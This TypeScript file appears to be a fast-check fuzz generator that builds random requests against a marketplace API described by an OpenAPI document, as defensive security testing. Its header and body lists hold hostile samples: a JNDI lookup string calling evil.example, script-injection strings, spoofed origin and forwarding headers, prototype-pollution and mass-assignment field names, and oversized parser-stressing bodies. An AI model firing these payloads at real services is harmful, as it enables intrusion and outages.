import fc from 'fast-check'
import { type Schema, hostile, nearly, valid } from './values.ts'

export const actors = [
  'nobody',
  'buyer',
  'unverified',
  'completed',
  'seller',
  'admin',
  'newBuyer',
  /** A verified seller without a shop. */
  'shopless',
  'newAdmin',
  /** Sends a made-up session cookie. */
  'forger',
] as const
export type Actor = (typeof actors)[number]

/** Actors that are replaced each round, with their roles. */
const disposable = { newBuyer: 'buyer', shopless: 'seller', newAdmin: 'admin' } as const
export type DisposableActor = keyof typeof disposable

const isDisposable = (actor: Actor): actor is DisposableActor => actor in disposable
export const roleOf = (actor: Actor): Actor => (isDisposable(actor) ? disposable[actor] : actor)

export type Encoding = 'json' | 'form' | 'multipart'

/** A generated request. Its ids are filled in when it is sent. */
export interface GeneratedRequest {
  /** `POST store/add_item`, as in the document. */
  call: string
  actor: Actor
  encoding: Encoding
  fields: [name: string, value: unknown][]
  headers: Record<string, string>
  /** Replaces the method of the call. */
  method: string | null
  /** Replaces the fields. */
  body: string | null
}

export interface Operation {
  call: string
  method: 'GET' | 'POST'
  path: string
  input: Schema
  /** The actors that the document allows. All if it names none. */
  isFor: readonly Actor[]
}

interface Described {
  description: string
  parameters?: { name: string; required: boolean; schema: Schema }[]
  requestBody?: { content: Record<string, { schema: Schema }> }
}

export interface DocumentOfCalls {
  paths: Record<string, Record<string, Described>>
}

/** The calls of the OpenAPI document. */
export const operationsOf = ({ paths }: DocumentOfCalls): Operation[] =>
  Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([lower, { description, parameters = [], requestBody }]) => {
      const named = /Only: ([^.]*)\./.exec(description)?.[1]?.split(', ')
      const method = lower === 'get' ? 'GET' : 'POST'
      const input: Schema = requestBody
        ? (Object.values(requestBody.content)[0]?.schema ?? {})
        : {
            properties: Object.fromEntries(parameters.map(({ name, schema }) => [name, schema])),
            required: parameters.filter(({ required }) => required).map(({ name }) => name),
          }
      return {
        call: `${method} ${path.replace('/api/', '')}`,
        method,
        path,
        input,
        isFor: actors.filter((actor) => named?.includes(roleOf(actor)) ?? true),
      }
    }),
  )

/** Fields that no call has, for mass assignment and prototype pollution. */
const unknownFields = [
  'id',
  'kind',
  'role',
  'user_type',
  'verified',
  'isAdmin',
  'account_id',
  'owner_id',
  'buyer_id',
  'balance',
  'price_centavos',
  'status',
  'availability',
  'password_hash',
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
]

/** The kind of id that a field takes, where its name does not say it. */
const kindOfField: Record<string, string> = {
  'POST auth/login code': 'codeOfAdmin',
  'POST auth/reset_password token': 'linkToken',
  'POST auth/reset_password code': 'codeOfAdmin',
  'POST auth/second_factor/confirm code': 'codeOfAdmin',
  'POST auth/second_factor/turn_off code': 'codeOfAdmin',
  'POST auth/second_factor/new_recovery_codes code': 'codeOfAdmin',
  'POST store/add_img_item id': 'draftID',
  'POST store/update_item itemID': 'saleID',
  'POST store/withdraw_item itemID': 'saleID',
  'POST store/relist_item itemID': 'saleID',
  'POST store/delete_item itemID': 'saleID',
  'POST models/dismiss_same_piece id': 'pairID',
  'POST auth/verification/approve_or_reject id': 'waitingID',
}

const fieldsOf = ({
  call,
  input: { properties = {}, required = [] },
}: Operation): fc.Arbitrary<[string, unknown][]> => {
  const named = Object.entries(properties)
  const good = named.map(([name, schema]) =>
    fc
      .tuple(fc.nat({ max: 9 }), valid(schema, kindOfField[`${call} ${name}`] ?? name))
      .map(([chance, value]): [string, unknown][] =>
        required.includes(name) || chance < 6 ? [[name, value]] : [],
      ),
  )
  const all = fc.tuple(...good).map((several) => several.flat())
  // The required fields alone, because many optional fields together are seldom valid.
  const least = all.map((fields) => fields.filter(([name]) => required.includes(name)))
  if (named.length === 0)
    return fc.array(fc.tuple(fc.constantFrom(...unknownFields), hostile), { maxLength: 2 })

  // One field is invalid, so that the others pass the first checks.
  const invalid = fc.tuple(all, fc.nat({ max: named.length - 1 })).chain(([fields, n]) => {
    const [name, schema] = named[n] ?? ['', {}]
    return fc
      .oneof({ weight: 2, arbitrary: hostile }, { weight: 1, arbitrary: nearly(schema, name) })
      .map((value): [string, unknown][] => [...fields.filter(([other]) => other !== name), [name, value]])
  })
  const missing = fc
    .tuple(all, fc.nat({ max: named.length }))
    .map(([fields, n]) => fields.filter((_, index) => index !== n))
  const more = fc
    .tuple(
      all,
      fc.array(fc.tuple(fc.constantFrom(...unknownFields), hostile), { minLength: 1, maxLength: 3 }),
    )
    .map(([fields, extra]): [string, unknown][] => [...fields, ...extra])
  const wild = fc.tuple(...named.map(([name]) => fc.tuple(fc.constant(name), hostile)))
  return fc.oneof(
    { weight: 10, arbitrary: all },
    { weight: 2, arbitrary: least },
    { weight: 8, arbitrary: invalid },
    { weight: 2, arbitrary: missing },
    { weight: 3, arbitrary: more },
    { weight: 2, arbitrary: wild as fc.Arbitrary<[string, unknown][]> },
  )
}

const plainHeaders: Record<string, string> = {}
const oddHeaders: Record<string, string>[] = [
  { 'sec-fetch-site': 'cross-site', origin: 'https://evil.example' },
  { origin: 'null' },
  { 'x-request-id': 'x'.repeat(500) },
  { 'x-request-id': '<script>alert(1)</script>' },
  { 'x-forwarded-for': '127.0.0.1, 10.0.0.1, ::1', 'x-forwarded-host': 'evil.example' },
  { 'x-http-method-override': 'DELETE' },
  { 'accept-encoding': 'br;q=0.00001, *;q=x', accept: 'application/xml' },
  { cookie: 'session=; session=a; session=%00; =; ;;' },
  { cookie: `session=${'s'.repeat(4_000)}` },
  { cookie: 'session=%E0%A4%A' },
  { 'content-type': 'application/json; charset=utf-7' },
  { 'content-type': 'text/xml' },
  { 'content-type': 'multipart/form-data' },
  { 'content-type': `multipart/form-data; boundary=${'b'.repeat(300)}` },
  { 'content-type': 'application/x-www-form-urlencoded; charset=ibm500' },
  { 'content-type': '' },
  { range: 'bytes=0-,-1', 'if-none-match': '*', 'if-modified-since': 'yesterday' },
  { 'last-event-id': '../../9999999999999999999999' },
  { referer: 'javascript:alert(1)', 'user-agent': '\u00ff${jndi:ldap://evil.example}' },
]

const oddBodies = [
  '',
  '{',
  'null',
  '[]',
  '"text"',
  '1',
  '{"a":1}{"b":2}',
  '{"__proto__":{"a":1}}',
  `{"a":${'['.repeat(100_000)}${']'.repeat(100_000)}}`,
  `{${'"a":1,'.repeat(20_000)}"a":1}`,
  `${'a[]='.repeat(3)}${'&a=1'.repeat(20_000)}`,
  'x'.repeat(400_000),
  '--b\r\nContent-Disposition: form-data; name="a"\r\n\r\n1',
  '--b\r\n'.repeat(5_000),
  '\ufeff{}',
]

/** Actors that may make the call. Calls that need a password or a code mostly get the disposable ones. */
const allowedActors = ({ call, isFor, input }: Operation): fc.Arbitrary<Actor> => {
  const [come, stay] = [isFor.filter(isDisposable), isFor.filter((actor) => !isDisposable(actor))]
  const asks = 'password' in (input.properties ?? {}) || call.includes('second_factor')
  return fc.oneof(
    { weight: asks ? 3 : 1, arbitrary: fc.constantFrom(...(come.length > 0 ? come : stay)) },
    { weight: asks ? 1 : 3, arbitrary: fc.constantFrom(...stay) },
  )
}

const takesFile = ({ input: { properties = {} } }: Operation): boolean =>
  Object.values(properties).some(({ format }) => format === 'binary')
const forFiles = fc.constantFrom<Encoding>('multipart', 'multipart', 'multipart', 'json', 'form')
/** Calls without files refuse multipart bodies before reading them. */
const forFields = fc.oneof(
  { weight: 12, arbitrary: fc.constantFrom<Encoding>('json', 'json', 'json', 'form', 'form') },
  { weight: 1, arbitrary: fc.constant<Encoding>('multipart') },
)

/** Random requests, with each call equally often. */
export const requestsOf = (operations: Operation[]): fc.Arbitrary<GeneratedRequest> =>
  fc
    .oneof(
      ...operations.map((operation) =>
        fc.record({ operation: fc.constant(operation), fields: fieldsOf(operation) }),
      ),
    )
    .chain(({ operation, fields }) =>
      fc.record({
        call: fc.constant(operation.call),
        fields: fc.constant(fields),
        actor: fc.oneof(
          { weight: 4, arbitrary: allowedActors(operation) },
          { weight: 1, arbitrary: fc.constantFrom(...actors) },
        ),
        encoding: takesFile(operation) ? forFiles : forFields,
        headers: fc.oneof(
          { weight: 9, arbitrary: fc.constant(plainHeaders) },
          { weight: 1, arbitrary: fc.constantFrom(...oddHeaders) },
        ),
        method: fc.oneof(
          { weight: 60, arbitrary: fc.constant(null) },
          {
            weight: 1,
            arbitrary: fc.constantFrom('GET', 'POST', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'HEAD'),
          },
        ),
        body: fc.oneof(
          { weight: 30, arbitrary: fc.constant(null) },
          { weight: 1, arbitrary: fc.constantFrom(...oddBodies) },
        ),
      }),
    )
